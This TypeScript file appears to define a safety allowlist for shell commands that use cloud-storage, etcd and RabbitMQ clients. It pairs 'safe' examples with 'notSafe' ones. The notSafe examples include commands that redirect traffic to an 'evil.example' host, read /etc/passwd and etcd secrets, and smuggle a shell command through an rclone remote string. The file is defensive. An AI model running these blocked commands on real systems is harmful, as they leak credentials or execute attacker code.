import type { Tool } from "./tool.ts";

const ask = { operands: "text", service: true } as const;
const bare = { operands: "none", service: true } as const;

/** A remote of the user's own settings. Not `:sftp,ssh=…:`, which makes one up and can name a program. */
const REMOTE = "^[A-Za-z0-9_][\\w .+@-]*:[^:]*$";

/** Clients of object stores, of etcd and of rabbitmq. */
export const STORAGE_TOOLS: readonly Tool[] = [
  {
    names: ["gsutil"],
    // Not -o, -h, -i: other settings, headers, another account.
    options: "-m -q -u: --help",
    operands: "none",
    uses: [
      { commands: ["ls", "list"], options: "-a -b -d -e -h -l -L -p: -r -R", ...ask, operandForm: "^(gs|s3)://" },
      { commands: ["du"], options: "-a -c -e: -h -s -0", ...ask, operandForm: "^(gs|s3)://" },
      {
        // Not cat: what an object holds may be anything.
        commands: ["stat", "hash"],
        options: "-h -r: -c -m",
        ...ask,
        operandForm: "^(gs|s3)://",
        minOperands: 1,
      },
      {
        commands: [
          "acl get",
          "iam get",
          "cors get",
          "lifecycle get",
          "versioning get",
          "label get",
          "logging get",
          "defacl get",
        ],
        options: "",
        ...ask,
        operandForm: "^(gs|s3)://",
      },
      { commands: ["version"], options: "-l", ...bare },
    ],
    examples: {
      safe: [
        "gsutil ls",
        "gsutil ls -l gs://b/logs/",
        "gsutil du -sh gs://b",
        "gsutil stat gs://b/x",
        "gsutil -m ls gs://b",
        "gsutil version -l",
      ],
      notSafe: [
        "gsutil cp gs://b/x .",
        "gsutil rm gs://b/x",
        "gsutil -o Boto:proxy=evil.example ls",
        "gsutil cat /etc/passwd",
        "gsutil cat gs://a/b",
        "gsutil ls /etc",
        "gsutil ls $x",
        "gsutil iam ch x gs://b",
        "gsutil signurl k gs://b/x",
        "gsutil perfdiag -o x",
      ],
    },
  },
  {
    names: ["bq"],
    // Not --flagfile, --bigqueryrc, --api, --credential_file, --apilog.
    options: "-q --format: --project_id: --location: --dataset_id: --quiet --headless",
    operands: "none",
    uses: [
      {
        commands: ["ls"],
        options:
          "-a -d -j -n# -p -m -r --all --datasets --filter: --format: --jobs --max_results# --models --page_token: --projects --reservation --routines --transfer_config --transfer_location: --capacity_commitment --row_access_policies",
        ...ask,
      },
      {
        commands: ["show"],
        options:
          "-d -j -m --dataset --encryption_service_account --format: --job --model --reservation --routine --schema --transfer_config --view",
        ...ask,
      },
      {
        commands: ["head"],
        options: "-n# -s# -t -j --format: --job --max_results# --selected_fields: --start_row# --table",
        ...ask,
      },
      { commands: ["get-iam-policy"], options: "-t --table_and_view", ...ask },
      { commands: ["version"], options: "", ...bare },
    ],
    examples: {
      safe: [
        "bq ls",
        "bq ls --format=pretty my_dataset",
        "bq show --schema --format=prettyjson ds.table",
        "bq head -n 5 ds.table",
        "bq --project_id=p ls",
      ],
      notSafe: [
        "bq query 'SELECT 1'",
        "bq rm ds.table",
        "bq --api=https://evil.example ls",
        "bq --flagfile=x ls",
        "bq extract ds.t gs://b/x",
        "bq show $x",
        "bq mk ds",
      ],
    },
  },
  {
    names: ["s3cmd"],
    // Not -c, --config, --host, --host-bucket, --ca-certs, --access_key.
    options:
      "-v -q -H -r --help --human-readable-sizes --list-md5 --long-listing --no-progress --quiet --recursive --region: --verbose --version",
    operands: "none",
    optionsAnywhere: true,
    uses: [{ commands: ["ls", "la", "du", "info"], options: "", ...ask, operandForm: "^s3://" }],
    examples: {
      safe: ["s3cmd ls s3://b/", "s3cmd du -H s3://b", "s3cmd info s3://b/x"],
      notSafe: [
        "s3cmd put x s3://b",
        "s3cmd --host=evil.example ls",
        "s3cmd -c x ls",
        "s3cmd del s3://b/x",
        "s3cmd --dump-config",
      ],
    },
  },
  {
    names: ["rclone"],
    // Not --config, --log-file, --rc, and none of the backends' own.
    options:
      "-v -q -h --help --fast-list --max-depth# --min-size: --max-size: --min-age: --max-age: --include: --exclude: --drive-shared-with-me --verbose --quiet --human-readable",
    operands: "none",
    optionsAnywhere: true,
    uses: [
      {
        commands: ["ls", "lsd", "lsl", "size", "about"],
        options: "-R --json --full --head# --tail# --offset# --count# --recursive",
        ...ask,
        operandForm: REMOTE,
        minOperands: 1,
      },
      {
        commands: ["lsf", "lsjson"],
        options:
          "-R -F: -p: -s: -d -M --absolute --csv --dir-slash --dirs-only --files-only --format: --hash --hash-type: --recursive --separator: --stat --no-modtime",
        ...ask,
        operandForm: REMOTE,
        minOperands: 1,
      },
      { commands: ["listremotes", "version"], options: "--long", ...bare },
    ],
    examples: {
      safe: ["rclone ls remote:bucket/path", "rclone lsd gdrive:", "rclone size remote:b --json", "rclone listremotes"],
      notSafe: [
        "rclone ls ':sftp,ssh=\"sh x\":'",
        "rclone ls :http:x --http-url http://evil.example",
        "rclone ls remote:x --sftp-ssh ./x",
        "rclone --config /tmp/x ls remote:",
        "rclone ls remote:x --log-file=x",
        "rclone cat /etc/passwd",
        "rclone cat remote:a/b",
        "rclone copy a remote:b",
        "rclone config show",
        "rclone sync a b",
        "rclone tree remote: -o x",
        "rclone rcat remote:x",
      ],
    },
  },
  {
    names: ["etcdctl"],
    // Not --endpoints but of this machine, --cert, --key, --user. Not `get`: clusters keep their secrets there.
    options:
      "-w: -h --write-out: --endpoints=localhost:*|127.0.0.1:*|http://localhost:*|http://127.0.0.1:* --dial-timeout: --help",
    operands: "none",
    optionsAnywhere: true,
    uses: [
      {
        commands: ["member list", "endpoint health", "endpoint status", "alarm list", "version"],
        options: "--cluster",
        ...bare,
      },
    ],
    examples: {
      safe: ["etcdctl member list -w table", "etcdctl endpoint health"],
      notSafe: [
        "etcdctl get /registry/secrets --prefix",
        "etcdctl --endpoints=evil.example:2379 member list",
        "etcdctl put a b",
        "etcdctl snapshot save x",
      ],
    },
  },
  {
    names: ["rabbitmqctl"],
    options: "-p: -q -s -t# --vhost: --quiet --silent --timeout# --formatter: --longnames",
    operands: "none",
    optionsAnywhere: true,
    uses: [
      {
        commands:
          "status cluster_status list_queues list_exchanges list_bindings list_connections list_channels list_consumers list_users list_vhosts list_permissions list_policies list_user_permissions ping version".split(
            " ",
          ),
        options: "--online --offline --local --table-headers? --no-table-headers",
        ...ask,
      },
    ],
    examples: {
      safe: ["rabbitmqctl list_queues name messages", "rabbitmqctl status", "rabbitmqctl list_users"],
      notSafe: [
        "rabbitmqctl eval 'x'",
        "rabbitmqctl -n other@host status",
        "rabbitmqctl stop",
        "rabbitmqctl add_user a b",
        "rabbitmqctl purge_queue q",
        "rabbitmqctl environment",
      ],
    },
  },
];
